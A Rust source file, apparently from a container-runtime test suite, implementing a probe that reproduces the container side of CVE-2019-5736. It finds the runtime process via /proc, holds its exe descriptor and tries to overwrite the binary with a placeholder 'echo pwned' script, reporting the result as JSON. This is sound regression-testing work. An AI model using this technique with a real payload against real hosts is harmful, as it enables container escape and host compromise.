//! `probe hold-exe`: the container side of CVE-2019-5736, for tests that check the runtime binary is out of reach.
//!
//! It waits for another process of the container whose `argv[1]` is a given string (the runtime binary run through
//! a `#!/proc/self/exe` script has the script's path there), keeps an `O_PATH` descriptor of its `/proc/PID/exe`,
//! and once told to (the process has exited by then, so the file is no longer busy) reopens that descriptor through
//! `/proc/self/fd/N` for writing and writes to it.

use std::ffi::CString;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::path::Path;
use std::time::{Duration, Instant};

use serde_json::{json, Value};

use crate::sys::{errno_name, last_errno};

const WAIT: Duration = Duration::from_secs(60);

/// What the attacker writes over the binary's first bytes.
const PAYLOAD: &[u8] = b"#!/bin/sh\necho pwned\n";

/// Waits for a process with `argv[1] == arg` and holds its exe; reports that in `held_file`; waits for `go_file`;
/// then tries to write through the held descriptor and returns the report.
pub fn run(arg: &str, held_file: &str, go_file: &str) -> Result<Value, String> {
    let (pid, exe) = match wait_and_hold(arg) {
        Ok(found) => found,
        Err(errno) => {
            let report =
                json!({"held": false, "errno": errno, "errno_name": errno.map(errno_name)});
            crate::write_atomically(held_file, format!("{report}\n").as_bytes())?;
            return Ok(report);
        }
    };
    let link = read_link(&exe);
    let held = json!({"held": true, "pid": pid, "exe": link});
    crate::write_atomically(held_file, format!("{held}\n").as_bytes())?;
    let deadline = Instant::now() + WAIT;
    while !Path::new(go_file).exists() {
        if Instant::now() > deadline {
            return Err(format!("{go_file} did not appear within {WAIT:?}"));
        }
        std::thread::sleep(Duration::from_millis(5));
    }
    let (open_errno, write_errno) = match open_fd_path(&exe, libc::O_WRONLY) {
        Err(errno) => (Some(errno), None),
        Ok(writable) => (None, write_all(&writable).err()),
    };
    Ok(json!({
        "held": true,
        "pid": pid,
        "exe": link,
        "open_errno": open_errno,
        "open_errno_name": open_errno.map(errno_name),
        "write_errno": write_errno,
        "write_errno_name": write_errno.map(errno_name),
        "wrote": open_errno.is_none() && write_errno.is_none(),
    }))
}

/// Polls /proc until a process with `argv[1] == arg` appears and its exe can be opened; `Err` carries the last
/// errno of opening an exe (None: no such process appeared).
fn wait_and_hold(arg: &str) -> Result<(i32, OwnedFd), Option<i32>> {
    let me = std::process::id().to_string();
    let deadline = Instant::now() + WAIT;
    let mut last_errno = None;
    while Instant::now() < deadline {
        let entries = std::fs::read_dir("/proc").map_err(|e| e.raw_os_error())?;
        for entry in entries.flatten() {
            let name = entry.file_name().to_string_lossy().into_owned();
            if name == me || !name.bytes().all(|b| b.is_ascii_digit()) {
                continue;
            }
            let Ok(cmdline) = std::fs::read(format!("/proc/{name}/cmdline")) else {
                continue;
            };
            if cmdline.split(|b| *b == 0).nth(1) != Some(arg.as_bytes()) {
                continue;
            }
            match open(&format!("/proc/{name}/exe"), libc::O_PATH) {
                Ok(fd) => return Ok((name.parse().unwrap_or(0), fd)),
                Err(errno) => last_errno = Some(errno),
            }
        }
        std::thread::sleep(Duration::from_millis(1));
    }
    Err(last_errno)
}

fn open(path: &str, flags: libc::c_int) -> Result<OwnedFd, i32> {
    let c_path = CString::new(path).map_err(|_| libc::EINVAL)?;
    // SAFETY: `c_path` is a valid C string for the duration of the call.
    let fd = unsafe { libc::open(c_path.as_ptr(), flags | libc::O_CLOEXEC) };
    if fd < 0 {
        return Err(last_errno());
    }
    // SAFETY: `fd` was just returned by open(2) and is owned by nothing else.
    Ok(unsafe { OwnedFd::from_raw_fd(fd) })
}

/// Reopens the file behind `fd` through `/proc/self/fd/N` with `flags`.
fn open_fd_path(fd: &OwnedFd, flags: libc::c_int) -> Result<OwnedFd, i32> {
    open(&format!("/proc/self/fd/{}", fd.as_raw_fd()), flags)
}

fn read_link(fd: &OwnedFd) -> Option<String> {
    std::fs::read_link(format!("/proc/self/fd/{}", fd.as_raw_fd()))
        .ok()
        .map(|p| p.to_string_lossy().into_owned())
}

fn write_all(fd: &OwnedFd) -> Result<(), i32> {
    // SAFETY: PAYLOAD is a valid buffer of PAYLOAD.len() bytes.
    let n = unsafe { libc::write(fd.as_raw_fd(), PAYLOAD.as_ptr().cast(), PAYLOAD.len()) };
    match n {
        n if n < 0 => Err(last_errno()),
        n if n as usize == PAYLOAD.len() => Ok(()),
        _ => Err(libc::EIO),
    }
}
